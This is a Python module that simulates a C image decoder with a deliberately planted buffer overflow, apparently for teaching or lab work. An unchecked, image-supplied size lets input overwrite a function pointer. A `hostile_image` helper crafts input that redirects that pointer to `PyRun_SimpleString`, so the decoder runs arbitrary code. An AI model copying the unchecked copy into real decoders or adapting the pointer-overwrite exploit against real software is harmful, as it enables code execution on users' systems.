"""A decoder with a bug that is planted: an image may say which function it calls.

It stands for the C code of real decoders.  A row of pixels is copied into a buffer, and the size
that the image claims is not checked.  Behind the buffer is the address of a function.
"""

from __future__ import annotations

import ctypes
import sys

_ROOM = 4096
_FINISH = ctypes.PYFUNCTYPE(ctypes.c_int, ctypes.c_void_p)

# What hostile code has got hold of; the decoder returns it as if it were pixels.
loot: list[str] = []


class _Row(ctypes.Structure):
    _fields_ = (  # type: ignore[mutable-override]
        ("pixels", ctypes.c_char * _ROOM),
        ("finish", ctypes.c_void_p),
    )


def _finish_row(pixels: int) -> int:
    return len(ctypes.string_at(pixels))


_finish = _FINISH(_finish_row)


def decode(upload: bytes) -> list[str]:
    """Return what is in an image: how many pixels its row has."""
    loot.clear()
    row = _Row(finish=ctypes.cast(_finish, ctypes.c_void_p).value)
    size = int.from_bytes(upload[:4], "big")
    ctypes.memmove(
        ctypes.byref(row), upload[4:], size
    )  # the bug: size may be too large
    pixels = _FINISH(row.finish)(ctypes.addressof(row))
    return [*loot, f"{pixels} pixels"]


def good_image(pixels: int) -> bytes:
    return (pixels + 1).to_bytes(4, "big") + b"x" * pixels + b"\0"


def where_python_is() -> int:
    """Return the address that an attacker would have to find out."""
    address = ctypes.cast(ctypes.pythonapi.PyRun_SimpleString, ctypes.c_void_p).value
    assert address is not None
    return address


def hostile_image(address: int, code: str) -> bytes:
    """Return an image that has the decoder call the function there with *code*."""
    pixels = code.encode().ljust(_ROOM, b"\0")
    assert len(pixels) == _ROOM
    data = pixels + address.to_bytes(8, sys.byteorder)
    return len(data).to_bytes(4, "big") + data
